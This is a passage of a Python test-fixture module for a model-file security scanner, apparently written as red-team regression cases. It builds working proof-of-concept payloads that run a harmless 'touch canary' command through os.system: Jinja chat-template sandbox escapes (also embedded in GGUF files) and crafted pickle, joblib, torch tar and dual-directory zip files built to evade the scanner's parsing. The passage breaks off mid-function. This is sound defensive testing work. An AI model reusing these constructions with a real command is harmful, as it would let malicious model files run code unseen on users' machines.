# dict(**{'f': e}).f.system. D4 (class D + B): batch(1) hides the groupby level, [x] * 1 hops, then
# cycler(*[...]).current.system.
_R9_HEAD = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages -%}\n{%- set p = (messages|last).content.split('|') -%}\n"
_R9_TAIL = "{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND9_D1 = (_R9_HEAD + "{%- for _ in [0] -%}\n{%- set g = loop.cycle(messages|groupby('role')|first) -%}\n"
                      "{%- set a = loop.cycle(g[p[1]]) -%}{%- set b = loop.cycle(a[p[2]]) -%}{%- set c = loop.cycle(b[p[3]]) -%}\n"
                      "{%- set d = loop.cycle(c[p[4]]) -%}{%- set e = loop.cycle(d[p[5]]) -%}\n"
                      "{%- for x in [e, 0] -%}{%- if loop.last -%}{{ loop.previtem.system(p[6]) }}{%- endif -%}{%- endfor -%}\n"
                      "{%- endfor -%}\n" + _R9_TAIL)
TEMPLATE_ROUND9_D3 = (_R9_HEAD + "{%- set g = ((messages|groupby('role')|list) + [])[0] -%}\n"
                      "{%- set a = ([g[p[1]]] + [])[0] -%}{%- set b = ([a[p[2]]] + [])[0] -%}{%- set c = ([b[p[3]]] + [])[0] -%}\n"
                      "{%- set d = ([c[p[4]]] + [])[0] -%}{%- set e = ([d[p[5]]] + [])[0] -%}\n"
                      "{{- dict(**{'f': e}).f.system(p[6]) -}}\n" + _R9_TAIL)
TEMPLATE_ROUND9_D4 = (_R9_HEAD + "{%- for k in messages|groupby('role')|batch(1) -%}\n"
                      "{%- set a = ([k[0][p[1]]] * 1)[0] -%}{%- set b = ([a[p[2]]] * 1)[0] -%}{%- set c = b.get(p[3]) -%}\n"
                      "{{- cycler(*[c.modules.os]).current.system(p[4]) -}}\n{%- endfor -%}\n" + _R9_TAIL)
TEMPLATE_ROUND9_CHAT_6 = json.dumps(
    {"messages": [{"role": "user", "content": "x|_asdict|__globals__|_sys|modules|os|touch canary"}]})
TEMPLATE_ROUND9_CHAT_4 = json.dumps(
    {"messages": [{"role": "user", "content": "x|_asdict|__globals__|_sys|touch canary"}]})


def template_round9_cases() -> list[Case]:
    """Round 9 on chat templates: one case per PoC (D1 also as GGUF), each fired by fire.py's plain render."""
    return [
        Case("template_r9_loop_cycle_laundered_hops", "5",
             "A+B: loop.cycle(x) launders each chat-chosen hop, loop.previtem.system(...) (fired by that chat)",
             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D1.encode(), chat=TEMPLATE_ROUND9_CHAT_6),
        Case("gguf_template_r9_loop_cycle_laundered_hops", "5",
             "A+B: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND9_D1.encode()), chat=TEMPLATE_ROUND9_CHAT_6),
        Case("template_r9_list_concat_laundered_hops", "5",
             "C+B: ([x] + [])[0] launders each hop, dict(**{'f': e}).f.system(...) (fired by that chat)",
             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D3.encode(), chat=TEMPLATE_ROUND9_CHAT_6),
        Case("template_r9_batch_level_laundered_hops", "5",
             "D+C+B: groupby|batch(1) hides the tuple level, [x] * 1 hops, cycler(*[..]).current.system(...) "
             "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND9_D4.encode(),
             chat=TEMPLATE_ROUND9_CHAT_4),
    ]
# ======== END red team round 9 on chat templates ========================================================


# ======== BEGIN red team round 10 on chat templates (helper tplfix10) =====================================
# tests/test_templates_round10.py. A1 (classes A + B + C): a macro name with a dead loop binding read as render
# data and keyed by chat (m.__getstate__), handed in by caller= and read back by caller(), then .get(k) with a chat
# key (the Environment), then namespace attributes named index/count called (env.getattr x3, then os.system).
# D1 (class D): ``loop`` outside any for loop is the client's render argument, yet loop.index was a number.
TEMPLATE_ROUND10_A1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- macro m() %}{% endmacro -%}\n{%- for m in [] %}{% endfor -%}\n{%- macro step(d, k2, k3, k4, k5, k6) -%}\n{%- set ns = namespace(index=none, count=none) -%}\n{%- set ns.index = d.get(k2).getattr -%}\n{%- set a1 = ns.index(lipsum, k3) -%}\n{%- set a2 = ns.index(a1, k4) -%}\n{%- set ns.count = ns.index(a2, k5) -%}\n{{- ns.count(k6) -}}\n{%- endmacro -%}\n{%- macro run(k2, k3, k4, k5, k6) -%}{{ step(caller(), k2, k3, k4, k5, k6) }}{%- endmacro -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- if p|length > 6 -%}{{ run(p[2], p[3], p[4], p[5], p[6], caller=m[p[1]]) }}{%- endif -%}\n"
TEMPLATE_ROUND10_D1 = '{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if loop is defined and loop is mapping -%}\n{%- set c = [(messages|last).content] -%}\n{{- c.sort(key=cycler[loop.index][loop.index0].os.system) -}}\n{%- endif -%}\n'
TEMPLATE_ROUND10_A1_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "x|__getstate__|_environment|__globals__|os|system|touch canary"}]})
TEMPLATE_ROUND10_D1_CHAT = json.dumps({"messages": [{"role": "user", "content": "touch canary"}],
                                       "loop": {"index": "__init__", "index0": "__globals__"}})


def template_round10_cases() -> list[Case]:
    """Round 10 on chat templates: both PoCs, as .jinja and as GGUF, each fired by fire.py's plain render."""
    return [
        Case("template_r10_macro_caller_namespace_hops", "5",
             "A+B+C: macro object keyed by chat, caller= / caller() launder it, ns.index(...) calls env.getattr "
             "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND10_A1.encode(),
             chat=TEMPLATE_ROUND10_A1_CHAT),
        Case("gguf_template_r10_macro_caller_namespace_hops", "5",
             "A+B+C: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND10_A1.encode()), chat=TEMPLATE_ROUND10_A1_CHAT),
        Case("template_r10_free_loop_number_keys", "5",
             "D: loop outside a for loop is a render argument; cycler[loop.index][loop.index0].os.system "
             "(fired by a chat passing loop)", "jinja", "WW-TPL-002", "chat_template.jinja",
             TEMPLATE_ROUND10_D1.encode(), chat=TEMPLATE_ROUND10_D1_CHAT),
        Case("gguf_template_r10_free_loop_number_keys", "5",
             "D: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND10_D1.encode()), chat=TEMPLATE_ROUND10_D1_CHAT),
    ]
# ======== END red team round 10 on chat templates =======================================================

# ======== BEGIN red team round 11 on the scanner's readers (helper rdfix11) =======================


# B: a slot state {'__class__': NumpyArrayWrapper} turns an argparse.Namespace into a joblib wrapper after its
# BUILD; joblib.load then reads the next bytes as raw array data while a walk that follows the opcode's class
# reads them as opcodes (and sees the payload only as a BINBYTES literal). C: legacy torch *tar* checkpoints:
# torch.load runs several pickles from the ``storages`` member, each starting where the previous read ended
# (after the frame STOP was in; after a storage's raw data, whose 8-byte size field can double as BINBYTES).


def _bu(text: str) -> bytes:
    raw = text.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


_SYSTEM = b"cos\nsystem\n" + _bu(SHELL) + b"\x85R"  # os.system('touch canary')


def joblib_class_swap() -> bytes:
    """Namespace + BUILD (wrapper state, {'__class__': NumpyArrayWrapper}), then 'array data' that is a BINBYTES
    header over the payload: joblib skips the header and unpickles the payload."""
    dtype = b"cnumpy\ndtype\n" + _bu("u1") + b"\x89\x88\x87R(K\x03" + _bu("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    payload = b"0" + _SYSTEM
    raw = b"B" + len(payload).to_bytes(4, "little")
    program = b"\x80\x02cargparse\nNamespace\n)\x81}("
    program += _bu("shape") + b"K" + bytes([len(raw)]) + b"\x85" + _bu("dtype") + dtype + _bu("order") + _bu("C")
    program += _bu("allow_mmap") + b"\x89" + _bu("subclass") + b"cnumpy\nndarray\nu"
    program += b"}" + _bu("__class__") + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\ns\x86b"
    return program + raw + payload + b"."


def _legacy_tar(storages: bytes) -> bytes:
    import pickle

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", storages), ("tensors", pickle.dumps(0, protocol=2)),
                           ("pickle", pickle.dumps({"w": 1}, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def legacy_tar_frame() -> bytes:
    """storages = PROTO 4; FRAME [K 0; STOP; 8 pad bytes] + payload pickle: torch's next pickle.load (the storage
    views) starts after the frame."""
    body = b"K\x00." + b"\x00" * 8
    return _legacy_tar(b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body + b"\x80\x02" + _SYSTEM + b".")


def legacy_tar_size_field() -> bytes:
    """One ByteStorage whose 8-byte element count is also 'BINBYTES 16' to a walk that reads the member as plain
    pickles; torch skips the storage data and unpickles the payload as the storage views."""
    import pickle

    length = 16
    count = 0x42 + 256 * length  # little-endian: 'B', length (4 bytes), three zero bytes
    head = pickle.dumps(1, protocol=2) + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nByteStorage\ntq\x00."
    data = bytearray(count)
    data[length - 3] = ord(".")  # where the plain reading's BINBYTES literal ends: its STOP
    return _legacy_tar(head + count.to_bytes(8, "little") + bytes(data) + b"\x80\x02" + _SYSTEM + b".")


def round11_cases() -> list[Case]:
    """The round-11 classes B and C that run code (A and A' corrupt memory instead: tests/test_scan_round11.py)."""
    swap = joblib_class_swap()
    return [
        Case("round11_joblib_class_swap", "4",
             "BUILD (wrapper state, {'__class__': NumpyArrayWrapper}) on a Namespace: joblib.load reads the next bytes "
             "as array data, and the payload after them runs", "joblib", "WW-PKL-002", "class_swap.joblib", swap),
        Case("round11_joblib_class_swap_gz", "4", "the same, gzip-compressed joblib", "joblib", "WW-PKL-002",
             "class_swap.joblib.gz", gzip.compress(swap, mtime=0)),
        Case("round11_torch_tar_frame", "4",
             "legacy torch tar: STOP inside a frame; torch's next pickle.load starts at the frame's end, on the payload",
             "torch", CRIT, "tar_frame.pt", legacy_tar_frame()),
        Case("round11_torch_tar_size_field", "4",
             "legacy torch tar: a storage's 8-byte size field is BINBYTES to a plain-pickle walk, which hides the "
             "storage-views pickle torch runs", "torch", CRIT, "tar_size_field.pt", legacy_tar_size_field()),
    ]
# ======== END red team round 11 =========================================================================

# ======== BEGIN red team round 11 on chat templates (helper tplfix11) =====================================
# tests/test_templates_round11.py. Each PoC changes messages[-1] in place (its content becomes a namespace holding
# lipsum), then walks lipsum.__globals__.os.system by chat keys on "render data" and calls it as a sort key.
# B1 (class 1): 'x'|int(messages|last) IS messages[-1] (int's default), so last.update(..) changed render data
# unseen by the alias tracking. B4 (class 2): (messages|last).update kept as a value and called by c1.sort(key=).
# B3 (both): the bound method hidden behind 'x'|int(...), each hop behind |int too.
TEMPLATE_ROUND11_B1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set last = 'x'|int(messages|last) -%}{%- if last.update({'content': ns}) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND11_B3 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=lipsum) -%}\n{%- set keep = (messages|last).update -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[1]]) -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[2]]) -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[3]]) -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND11_B4 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set keep = (messages|last).update -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND11_CHAT = json.dumps({"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary"}]})


def template_round11_cases() -> list[Case]:
    """Round 11 on chat templates: the three PoCs as .jinja (B1 and B4 also as GGUF), fired by fire.py's render."""
    return [
        Case("template_r11_int_default_alias", "5",
             "1: 'x'|int(messages|last) is messages[-1]; its update(..) is unseen, then chat-keyed hops and "
             "sort(key=os.system) (fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja",
             TEMPLATE_ROUND11_B1.encode(), chat=TEMPLATE_ROUND11_CHAT),
        Case("gguf_template_r11_int_default_alias", "5",
             "1: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND11_B1.encode()), chat=TEMPLATE_ROUND11_CHAT),
        Case("template_r11_int_hidden_bound_method", "5",
             "1+2: 'x'|int((messages|last).update) given as a sort key changes render data (fired by that chat)",
             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND11_B3.encode(), chat=TEMPLATE_ROUND11_CHAT),
        Case("template_r11_bound_method_sort_key", "5",
             "2: set keep = (messages|last).update, c1.sort(key=keep) changes render data (fired by that chat)",
             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND11_B4.encode(), chat=TEMPLATE_ROUND11_CHAT),
        Case("gguf_template_r11_bound_method_sort_key", "5",
             "2: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND11_B4.encode()), chat=TEMPLATE_ROUND11_CHAT),
    ]
# ======== END red team round 11 on chat templates =======================================================


# ======== BEGIN red team round 12 on the scanner's readers (helper rdfix12) ==============================
# A: a STOP inside a frame with bytes after it (no pickler writes one). torch.load(path) reads a buffered file
# and its C unpickler goes on right after STOP; the walk went on at the frame end and walked ONE program from
# STOP, dropped when it named nothing: a benign sys_info program there hid the payload after it.
# B: joblib reads an object array's data with pickle._Unpickler, which reads the whole frame that holds STOP
# and leaves the outer stream at the frame end; the walk went on at STOP (a BINBYTES over the payload).
# C (text INT '0100' octal to the C unpickler) corrupts memory rather than running code: tests/test_scan_round12.py.

_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def _p2(value: object) -> bytes:
    import pickle

    return pickle.dumps(value, protocol=2)


def _framed(body: bytes) -> bytes:
    return b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body


def legacy_stop_chain(fork_twice: bool = False) -> bytes:
    """Legacy torch: magic; PROTO 4 FRAME [M 1001; STOP; gap]; the gap is a benign sys_info, the payload and a key
    list (what torch.load(path) runs); after the frame a benign sys_info, main and key list (the frame-end chain).
    ``fork_twice``: the gap's sys_info is itself framed with its STOP inside the frame (a fork inside the fork)."""
    sysinfo = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    payload = b"\x80\x02" + _SYSTEM + b"." + _p2([])
    if fork_twice:
        gap = _framed(_p2(sysinfo)[2:] + payload) + _p2({"w": 2}) + _p2([])
    else:
        gap = _p2(sysinfo) + payload
    after = _p2(sysinfo) + _p2({"w": 1}) + _p2([])
    return _p2(_LEGACY_MAGIC) + _framed(b"M\xe9\x03." + gap) + after


def joblib_frame_end() -> bytes:
    """joblib.dump's own file of an object array; the inner pickle's frame extended by 'B <len X>', then X (the
    payload) and POP, SETITEM, STOP: joblib runs X, a walk that goes on at the inner STOP sees BINBYTES."""
    import joblib
    import numpy as np

    out = io.BytesIO()
    joblib.dump({"a": np.array([1, "x"], dtype=object)}, out)
    data = out.getvalue()
    i = data.index(b"\x80\x05\x95")
    flen = int.from_bytes(data[i + 3 : i + 11], "little")
    body = data[i + 11 : i + 11 + flen]
    assert body.endswith(b".") and data[i + 11 + flen :] == b"s."
    payload = b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR"
    inner = body + b"B" + len(payload).to_bytes(4, "little")
    return data[:i] + _framed(inner).replace(b"\x80\x04", b"\x80\x05", 1) + payload + b"0s."


def round12_cases() -> list[Case]:
    """The round-12 classes A and B that run code (C corrupts memory instead: tests/test_scan_round12.py)."""
    jl = joblib_frame_end()
    return [
        Case("round12_legacy_stop_chain", "4",
             "legacy torch: STOP inside a frame; torch.load(path) goes on after STOP: a benign sys_info, then the "
             "payload as the main program", "torch", CRIT, "stop_chain.pt", legacy_stop_chain()),
        Case("round12_legacy_stop_chain_fork", "4",
             "the same with the gap's sys_info forking again (STOP inside its own frame)", "torch", CRIT,
             "stop_chain_fork.pt", legacy_stop_chain(fork_twice=True)),
        Case("round12_joblib_frame_end", "4",
             "joblib object array whose inner pickle ends inside a frame: joblib goes on at the frame end, on the "
             "payload", "joblib", CRIT, "frame_end.joblib", jl),
        Case("round12_joblib_frame_end_zlib", "4", "the same, zlib-compressed joblib", "joblib", CRIT,
             "frame_end.joblib.z", zlib.compress(jl)),
        Case("round12_joblib_frame_end_gz", "4", "the same, gzip-compressed joblib", "joblib", CRIT,
             "frame_end.joblib.gz", gzip.compress(jl, mtime=0)),
    ]
# ======== END red team round 12 =========================================================================

# ======== BEGIN red team round 12 on chat templates (helper tplfix12) =====================================
# tests/test_templates_round12.py. Each PoC reads a picked value ((messages|last)[p[5]], i.e. messages[-1].update)
# back out of a namespace attribute by a form other than a constant-name ns.attr (ns2['v'], [ns2]|map(attribute=),
# ns2|attr('v'), groupby('v'), ns2|dictsort calling a stored items), calls it as c1.sort(key=keep) so
# messages[-1]['content'] becomes a namespace holding lipsum, then walks to os.system by chat keys.
TEMPLATE_ROUND12_G4 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ns2['v'] -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND12_G1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = [ns2]|map(attribute='v')|first -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND12_G2 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ns2|attr('v') -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND12_G5 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ([ns2]|groupby('v')|first)[0] -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND12_D1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(items=none) -%}{%- set ns2.items = {'k': (messages|last)[p[5]]}.items -%}{%- for k, keep in ns2|dictsort -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}{%- endfor -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
TEMPLATE_ROUND12_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary|update"}]})
_ROUND12 = {
    "getitem": ("G4", "ns2['v'] (getitem falls back to getattr)"),
    "map_attribute": ("G1", "[ns2]|map(attribute='v')|first"),
    "attr_filter": ("G2", "ns2|attr('v')"),
    "groupby": ("G5", "([ns2]|groupby('v')|first)[0]"),
    "dictsort_items": ("D1", "ns2|dictsort calls a stored ns2.items"),
}


def template_round12_cases() -> list[Case]:
    """Round 12 on chat templates: the five PoCs as .jinja and as GGUF, fired by fire.py's render on the trigger."""
    cases = []
    for name, (poc, how) in _ROUND12.items():
        text = globals()[f"TEMPLATE_ROUND12_{poc}"].encode()
        cases.append(Case(f"template_r12_ns_{name}", "5",
                          f"a picked bound method laundered through a namespace attribute read as {how}, then "
                          "c1.sort(key=keep), chat-keyed hops and sort(key=os.system) (fired by that chat)", "jinja",
                          "WW-TPL-002", "chat_template.jinja", text, chat=TEMPLATE_ROUND12_CHAT))
        cases.append(Case(f"gguf_template_r12_ns_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text),
                          chat=TEMPLATE_ROUND12_CHAT))
    return cases
# ======== END red team round 12 on chat templates =======================================================


# ======== BEGIN red team round 13 on the scanner's readers (helper rdfix13) ==============================
# A. tarfile (and so torch.load of any non-zip file, which extracts the ``storages`` member and unpickles it)
# takes a first block whose header checksum is valid, with no ``ustar`` magic (an old V7 header) or with any
# bytes there; the sniff knew a tar only by ``ustar`` at 257, so such a checkpoint was "unknown format".


def v7_tar(magic: bytes = b"", high_bytes: bool = False) -> bytes:
    """A one-member tar (``storages`` = the payload) whose header has ``magic`` (zeros: V7) at 257-264 and no
    user/group names; ``high_bytes``: bytes >= 0x80 in the user-name field, so only tarfile's *signed*
    checksum matches the one written (a signed-sum writer, as old Sun tar)."""
    payload = b"cposix\nsystem\n(V" + SHELL.encode() + b"\ntR."
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("storages")
        info.size = len(payload)
        info.mtime = 0
        tar.addfile(info, io.BytesIO(payload))
    b = bytearray(out.getvalue())
    b[257:345] = bytes(88)
    b[257 : 257 + len(magic)] = magic
    if high_bytes:
        b[265:273] = b"\xf0" * 8
    b[148:156] = b" " * 8
    total = sum((x - 256 if x >= 128 else x) for x in b[:512]) if high_bytes else sum(b[:512])
    b[148:156] = b"%06o\x00 " % total
    return bytes(b)


def round13_cases() -> list[Case]:
    return [
        Case("round13_v7_tar_checkpoint", "4",
             "legacy tar checkpoint with a V7 header (no ustar magic): torch.load's tarfile reads storages",
             "torch", CRIT, "ckpt.pth.tar", v7_tar()),
        Case("round13_v7_tar_pt", "4", "the same named .pt", "torch", CRIT, "v7.pt", v7_tar()),
        Case("round13_tar_other_magic", "4", "tar header whose magic field holds other bytes (checksum valid)",
             "torch", CRIT, "other_magic.bin", v7_tar(b"XXXXXXXX")),
        Case("round13_tar_signed_checksum", "4", "V7 header with a signed checksum (bytes >= 0x80 in it)",
             "torch", CRIT, "signed.pth", v7_tar(high_bytes=True)),
    ]
# ======== END red team round 13 =========================================================================


# ======== BEGIN red team round 15 on the scanner's readers (helper rd15) ==============================
# A. A zip with two central directories: Python's zipfile reads the one right before the end record (shifting
# header offsets by the difference), torch's miniz the one at the end record's offset field (or the zip64
# record the locator names), exactly ``count`` entries. The directory torch reads names an evil data.pkl whose
# local header hides in the stored bytes of ``data/0``. B. A 7z member whose name py7zr cleans up on extraction
# ('./model.pkl' -> 'model.pkl') was looked up by its raw name and skipped.

R15_PAYLOAD = b"cposix\nsystem\n(V" + SHELL.encode() + b"\ntR."


def _z_lh(name: str, data: bytes) -> bytes:
    n = name.encode()
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), len(n), 0) + n + data


def _z_cd(name: str, data: bytes, off: int, comment: bytes = b"") -> bytes:
    n = name.encode()
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(n), 0, len(comment), 0, 0, 0, off) + n + comment


def _z_end(count: int, size: int, off: int, comment: bytes = b"", comment_len: int | None = None) -> bytes:
    clen = len(comment) if comment_len is None else comment_len
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size, off, clen) + comment


def _z64(count: int, size: int, off: int) -> bytes:
    return struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, off)


def _torch_members(data_pkl: bytes) -> list[tuple[str, bytes]]:
    return [("archive/data.pkl", data_pkl), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]


def two_directories(mode: str, program: bytes = R15_PAYLOAD, base: int = 0) -> bytes:
    """A torch-style zip whose benign directory (what Python's zipfile reads in the modes 'comment', 'in_data',
    'zip64_locator', 'last_end_record') and evil directory (data.pkl = ``program``, local headers hidden in the
    stored bytes of ``archive/data/0``) are found by different loaders. Modes:

    comment: the evil directory sits in the comment of the benign directory's last entry, the end record's offset
        names it (torch); zipfile's offsets are pre-shifted, so zipfile sees a contiguous archive (round 15 A1).
    in_data: the evil directory lies inside ``data/0``'s bytes; the end record's offset points into member data.
        zipfile then shifts offsets forward, so the archive starts with as many filler bytes (``base``, a local
        header of an unlisted member: torch.load opens only files that start with one): zipfile reports them as
        prepended data.
    zip64_locator: the zip64 record before the locator names the benign directory (zipfile), the locator's
        offset names a second zip64 record inside ``data/0`` naming the evil one (torch; round 15 A2).
    last_end_record: two end records: the last one (zipfile, torch) sits in the comment of the first (strict
        readers, whose comment length ends at the end of file) and names the evil directory.
    first_end_record: the same with the roles swapped: only strict readers read the evil directory.
    zip64_32bit: zip64 (zipfile, torch) names the benign directory; the 32-bit end-record fields, not saturated,
        name the evil one (readers that take zip64 values only where a field is saturated).
    """
    benign = _torch_members(b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x01s.")  # {'w': 1}
    evil = _torch_members(program)
